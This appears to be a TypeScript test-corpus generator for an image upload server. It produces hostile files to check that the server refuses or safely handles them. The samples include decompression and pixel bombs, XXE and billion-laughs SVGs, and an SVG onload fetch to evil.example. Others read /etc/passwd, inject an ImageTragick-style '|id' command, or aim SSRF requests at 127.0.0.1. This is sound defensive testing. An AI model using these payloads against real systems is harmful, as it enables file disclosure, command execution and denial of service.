import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { aBmp } from '../../apps/server/src/testing/images/bmp.ts';
import {
  blurs,
  filterChain,
  nested,
  turbulence,
  uses,
} from '../../apps/server/src/testing/images/hostile-svg.ts';
import { ROOT } from '../../tools/stack.ts';
import type { Dice } from '../kit/random.ts';
import { MARKED } from './corpus.marked.ts';
import {
  animatedWebp,
  apngOf,
  baseOf,
  blackPng,
  type Format,
  gifOf,
  jpegSegment,
  webpChunk,
  webpExtended,
  webpOf,
  withSegments,
} from './pictures.ts';

/** A hostile file. `mark` is a text that only this file contains, and that no answer may contain. */
export interface Hostile {
  family: string;
  file: Buffer;
  mark: string;
  /** The outcome that the product promises. `any`: it may accept the file, as long as its output is clean. */
  must: 'accept' | 'refuse' | 'any';
  /** The content type that the sender declares, if it is not the one of the route. */
  declared?: string;
}

/** Makes a file. `n` counts the files of the family, so that a family with few kinds tries each of them. */
export type Maker = (dice: Dice, mark: string, n: number) => Promise<Omit<Hostile, 'family' | 'mark'>>;

const FORMATS: readonly Format[] = ['jpeg', 'png', 'webp', 'gif', 'tiff', 'avif'];
const HEIC = readFileSync(join(ROOT, 'apps/server/src/testing/images/photo.heic'));
const some = <T>(list: readonly T[], n: number) => list[n % list.length] as T;
const refuse = (file: Buffer) => ({ file, must: 'refuse' as const });
const any = (file: Buffer) => ({ file, must: 'any' as const });

const svg = (inside: string, attributes = 'width="20" height="20"') =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`,
  );

async function damagedBase(dice: Dice, n: number): Promise<Buffer> {
  return n % (FORMATS.length + 1) === FORMATS.length
    ? HEIC
    : baseOf(FORMATS[n % (FORMATS.length + 1)] ?? dice.pick(FORMATS));
}

/** Every family of files that hide no text. `corpus.marked.ts` has those that do. */
const PLAIN: Record<string, Maker> = {
  'pixel bomb': async (dice, _mark, n) =>
    refuse(
      await some<() => Buffer | Promise<Buffer>>(
        [
          // 256 million pixels in 0.8 MB.
          () => blackPng(16_000, 16_000),
          () => blackPng(5001 + dice.below(4000), 5000, 0),
          () => webpOf(webpExtended(0, 16_383, 16_383), webpChunk('VP8 ', Buffer.alloc(40))),
          () => bmpOf(20_000 + dice.below(9), 20_000),
          async () => jpegClaiming(await baseOf('jpeg'), 65_500, 65_500),
          () => gifOf(1, 6000, 6000),
        ],
        n,
      )(),
    ),
  strip: async (dice, _mark, n) =>
    any(
      some<() => Buffer>(
        [
          () => blackPng(1 + dice.below(3), 60_000 + dice.below(5000)),
          () => blackPng(60_000 + dice.below(5000), 1),
          () => blackPng(24_999_999, 1, 0),
          () => blackPng(1, 2_000_000 + dice.below(1000), 0),
        ],
        n,
      )(),
    ),
  truncated: async (dice, _mark, n) => {
    const base = await damagedBase(dice, n);
    return any(base.subarray(0, 1 + dice.below(base.length - 1)));
  },
  'bits flipped': async (dice, _mark, n) => {
    const file = Buffer.from(await damagedBase(dice, n));
    const flips = 1 + dice.below(40);
    for (let flip = 0; flip < flips; flip++) {
      // Half of the flips hit the header, where they do the most damage.
      const at = dice.below(dice.chance(0.5) ? Math.min(200, file.length) : file.length);
      file[at] = (file[at] ?? 0) ^ (1 << dice.below(8));
    }
    return any(file);
  },
  'many frames': async (dice, _mark, n) =>
    refuse(
      await some<() => Buffer | Promise<Buffer>>(
        [() => gifOf(10_000 + dice.below(99)), () => animatedWebp(10_000 + dice.below(99))],
        n,
      )(),
    ),
  // Only the first picture of an animated PNG is decoded, as in a program that does not know the animation.
  'animated PNG': async (dice) => any(apngOf(10_000 + dice.below(99))),
  scans: async (dice) => any(await manyScans(200 + dice.below(3000))),
  SVG: async (dice, mark, n) => some(SVGS, n)(mark, dice),
  'declared as another type': async (_dice, _mark, n) => ({
    ...refuse(await baseOf('png')),
    declared: some(['image/svg+xml', 'text/html', 'multipart/form-data; boundary=x', 'image/png'], n),
  }),
  'no image': async (dice, _mark, n) =>
    refuse(
      some<() => Buffer>(
        [
          () => Buffer.alloc(0),
          () => Buffer.alloc(10 * 1024 * 1024 + 1),
          () => Buffer.alloc(10 * 1024 * 1024, 0x20),
          () => Buffer.from(Array.from({ length: 2000 }, () => dice.below(256))),
          () => Buffer.from('<!doctype html><script>alert(1)</script>'),
          () => Buffer.from('#!/bin/sh\nid > /tmp/x\n'),
          () => Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file'),
          () =>
            Buffer.from(
              'push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 "|id"\npop graphic-context',
            ),
          () => Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
        ],
        n,
      )(),
    ),
  BMP: async (dice, _mark, n) =>
    any(
      some<() => Buffer>(
        [
          () => bmpOf(-1, 9),
          () => bmpOf(9, -2_147_483_648),
          () => bmpOf(5000, 4999),
          () => aBmp({ width: 2, rows: [[0, 0xffffff]], bits: 8 }).subarray(0, 40 + dice.below(20)),
        ],
        n,
      )(),
    ),
  TIFF: async (dice) => {
    // The directory of the file names itself as the next one.
    const file = Buffer.from(await baseOf('tiff'));
    const at = file.readUInt32LE(4);
    if (at + 2 < file.length) {
      const entries = file.readUInt16LE(at);
      if (at + 6 + entries * 12 <= file.length) file.writeUInt32LE(at, at + 2 + entries * 12);
    }
    for (let flip = 0; flip < dice.below(4); flip++) file[at + dice.below(100)] = dice.below(256);
    return any(file);
  },
};

type SvgMaker = (mark: string, dice: Dice) => Omit<Hostile, 'family' | 'mark'>;
const SVGS: readonly SvgMaker[] = [
  (mark) => any(svg(`<script>alert("${mark}")</script><rect width="9" height="9"/>`)),
  (mark) => any(svg(`<rect width="9" height="9" onload="fetch('//evil.example/${mark}')"/>`)),
  (mark) => any(svg(`<image href="file:///etc/passwd?${mark}" width="9" height="9"/>`)),
  (mark) => any(svg(`<image xlink:href="http://127.0.0.1:1/${mark}.png" width="9" height="9"/>`)),
  (mark) =>
    any(svg(`<style>@import url("http://127.0.0.1:1/${mark}.css");</style><rect width="9" height="9"/>`)),
  (mark) =>
    any(
      svg(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${mark}</body></foreignObject>`,
      ),
    ),
  (mark) => any(svg(`<metadata>${mark}</metadata><rect width="9" height="9"/>`)),
  (mark) =>
    refuse(
      Buffer.from(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;${mark}</text></svg>`,
      ),
    ),
  () => {
    const levels = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
    const declared = `<!ENTITY l0 "ha">${levels.join('')}`;
    return refuse(
      Buffer.from(
        `<!DOCTYPE svg [${declared}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
      ),
    );
  },
  () => refuse(turbulence),
  () => refuse(uses),
  () => refuse(nested),
  () => refuse(filterChain),
  () => refuse(blurs),
  (_mark, dice) => any(svg('<rect width="9" height="9"/>', `width="${1 + dice.below(9)}e9" height="1"`)),
];

/** A BMP whose header states this width and height. */
function bmpOf(width: number, height: number): Buffer {
  const file = aBmp({ width: 1, rows: [[0]], bits: 24 });
  file.writeInt32LE(width, 18);
  file.writeInt32LE(height, 22);
  return file;
}

/** A JPEG whose frame header states this width and height. */
function jpegClaiming(base: Buffer, width: number, height: number): Buffer {
  const file = Buffer.from(base);
  const at = file.indexOf(Buffer.from([0xff, 0xc0]));
  file.writeUInt16BE(height, at + 5);
  file.writeUInt16BE(width, at + 7);
  return file;
}

/** A progressive JPEG that repeats its last scan. A scan of one colour is small and costs a pass over the picture. */
async function manyScans(times: number): Promise<Buffer> {
  const flat = sharp({ create: { width: 2500, height: 2000, channels: 3, background: '#a40' } });
  const jpeg = await flat.jpeg({ progressive: true, quality: 40 }).toBuffer();
  const last = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = jpeg.subarray(last, -2);
  const fits = Math.min(times, Math.floor((9 * 1024 * 1024 - jpeg.length) / scan.length));
  const repeated = Array.from({ length: fits }, () => scan);
  const comment = jpegSegment(0xfe, Buffer.from('scans'));
  return withSegments(Buffer.concat([jpeg.subarray(0, -2), ...repeated, jpeg.subarray(-2)]), comment);
}

const FAMILIES: Readonly<Record<string, Maker>> = { ...PLAIN, ...MARKED };

/** This many files, from each family in turn. */
export async function* corpusOf(dice: Dice, count: number): AsyncGenerator<Hostile> {
  const families = Object.entries(FAMILIES);
  for (let n = 0; n < count; n++) {
    const [family, make] = some(families, n);
    const mark = `MARCA-${n}-${dice.uuid()}`;
    yield { family, mark, ...(await make(dice, mark, Math.floor(n / families.length))) };
  }
}
